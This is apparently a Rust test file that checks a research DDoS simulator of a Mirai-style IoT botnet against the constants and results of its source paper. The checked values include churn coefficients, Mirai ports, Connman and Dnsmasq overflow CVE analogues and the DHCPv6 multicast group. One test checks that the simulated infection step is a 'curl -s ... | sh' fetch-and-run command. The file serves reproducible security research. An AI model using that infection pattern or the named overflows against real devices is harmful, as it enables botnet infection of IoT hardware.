//! Paper-fidelity audit: every constant and protocol detail the paper
//! states, pinned in one place — and the paper's *results*: the claims of
//! the experiment table (`ddosim-bench`), evaluated against the committed
//! files under `results/`. If a refactor drifts from the paper, this file
//! fails.

use churn::{ChurnMode, FanChurnModel, DYNAMIC_CHURN_PERIOD};
use ddosim::{SimulationBuilder, SimulationConfig};
use protocols::{AttackVector, CNC_PORT, SINGLE_INSTANCE_PORT};
use std::time::Duration;

#[test]
fn eq1_coefficients_match_fan_et_al() {
    // "the authors use 0.16, 0.08, and 0.04 for φ1, φ2, and φ3" (§IV-A).
    let m = FanChurnModel::PAPER;
    assert_eq!(m.phi1, 0.16);
    assert_eq!(m.phi2, 0.08);
    assert_eq!(m.phi3, 0.04);
}

#[test]
fn dynamic_churn_reestimates_every_20_seconds() {
    // "dynamic churn re-estimates p for each device every 20 seconds".
    assert_eq!(DYNAMIC_CHURN_PERIOD, Duration::from_secs(20));
}

#[test]
fn default_simulation_horizon_is_600_seconds() {
    // "we set the NS-3 simulation time to 600 seconds" (§IV-A).
    assert_eq!(SimulationConfig::default().sim_time, Duration::from_secs(600));
}

#[test]
fn default_access_rate_is_the_iot_range() {
    // "we choose a 100-500 kbps data rate, as this is an average range for
    // such devices" (§III-D).
    let c = SimulationConfig::default();
    assert_eq!(c.access_rate_kbps, 100..=500);
}

#[test]
fn udp_plain_is_the_default_vector_with_512_byte_payloads() {
    // Mirai's UDP-PLAIN flood with its default packet length.
    let c = SimulationConfig::default();
    assert_eq!(c.attack.vector, AttackVector::UdpPlain);
    assert_eq!(c.attack.vector.default_payload_bytes(), 512);
}

#[test]
fn mirai_ports_match_the_published_source() {
    assert_eq!(CNC_PORT, 23, "bots and admin telnet share port 23");
    assert_eq!(SINGLE_INSTANCE_PORT, 48101, "single-instance guard port");
}

#[test]
fn infection_chain_matches_the_papers_payload() {
    // §III-A: execlp("sh","-c","curl -s ShellScript_URL | sh").
    let cmd = malware::stage1_command("10.0.0.2".parse().expect("ip"));
    assert!(cmd.starts_with("curl -s http://"));
    assert!(cmd.ends_with("| sh"));
}

#[test]
fn experiments_support_the_papers_scale() {
    // "we conduct experiments with up to 200 Devs" (§IV-A). A 200-Dev
    // configuration must validate (running it is `exp fig3`'s job).
    assert!(SimulationBuilder::new().devs(200).build().is_ok());
}

#[test]
fn both_cve_analogue_paths_exist() {
    use tinyvm::{catalog, Arch};
    // CVE-2017-12865: Connman DNS-response stack overflow.
    let c = catalog::connman_image(Arch::X86_64);
    assert_eq!(c.name, "connmand");
    assert!(c.vuln.max_input > c.vuln.ra_offset(), "overflow reachable");
    // CVE-2017-14493: Dnsmasq DHCPv6 RELAY-FORW stack overflow.
    let d = catalog::dnsmasq_image(Arch::X86_64);
    assert_eq!(d.name, "dnsmasq");
    assert!(d.vuln.max_input > d.vuln.ra_offset(), "overflow reachable");
}

#[test]
fn dhcpv6_exploit_uses_the_multicast_group() {
    // "we send the DHCPv6 messages to a multicast IPv6 address since ...
    // there is no broadcast address in IPv6" (§IV-A) — ff02::1:2.
    let group = netsim::packet::all_dhcp_agents_v6();
    assert_eq!(group.to_string(), "ff02::1:2");
    assert!(netsim::packet::is_multicast(group));
}

#[test]
fn eq2_is_total_kbits_over_duration() {
    // D_received = (Σ_i Σ_j d_{j,i}) / n — verified against a hand
    // computation via the sink.
    let sink = ddosim::TServerSink::new(80);
    // (empty sink: zero average, no panic)
    assert_eq!(
        sink.average_received_data_rate_kbps(Duration::from_secs(0), Duration::from_secs(100)),
        0.0
    );
}

#[test]
fn churn_modes_cover_the_papers_three_levels() {
    // Fig. 2 compares no churn, static churn, and dynamic churn.
    let modes = [ChurnMode::None, ChurnMode::Static, ChurnMode::Dynamic];
    assert_eq!(modes.len(), 3);
}

#[test]
fn default_run_is_the_papers_scenario() {
    let c = SimulationConfig::default();
    assert_eq!(c.attack.duration, Duration::from_secs(100), "100 s attacks (Fig. 2)");
    assert!(matches!(
        c.binary_mix,
        ddosim::BinaryMix::Mixed { connman_fraction } if connman_fraction == 0.5
    ));
    assert_eq!(c.churn, ChurnMode::None, "churn only in the Fig. 2 series");
    assert_eq!(c.reboot_rate_per_min, 0.0, "extensions default off");
    assert_eq!(c.topology, ddosim::TopologyKind::Star);
}

#[test]
fn committed_results_hold_every_claim_of_the_experiment_table() {
    // Instant: reads the committed artefacts, runs no world. CI's
    // determinism stage separately proves the files are what the code
    // produces, so a change that bends a figure fails one or the other.
    let dir = ddosim_bench::results_dir();
    let read = |file: &str| std::fs::read_to_string(dir.join(file)).map_err(|e| format!("{file}: {e}"));
    let verdicts = ddosim_bench::TABLE.iter().flat_map(|row| row.verdicts(read));
    let violated: Vec<String> = verdicts.filter_map(Result::err).collect();
    assert!(violated.is_empty(), "results/ violates the paper's claims:\n{}", violated.join("\n"));

    // `results/` is exactly the table's artefacts.
    let declared = ddosim_bench::TABLE.iter().flat_map(|row| row.artefacts.iter().copied());
    let mut expected: Vec<&str> = declared.collect();
    expected.sort_unstable();
    let mut found: Vec<String> = std::fs::read_dir(&dir)
        .expect("results/ exists")
        .map(|entry| entry.expect("readable").file_name().into_string().expect("utf-8"))
        .collect();
    found.sort();
    assert_eq!(found, expected);
}
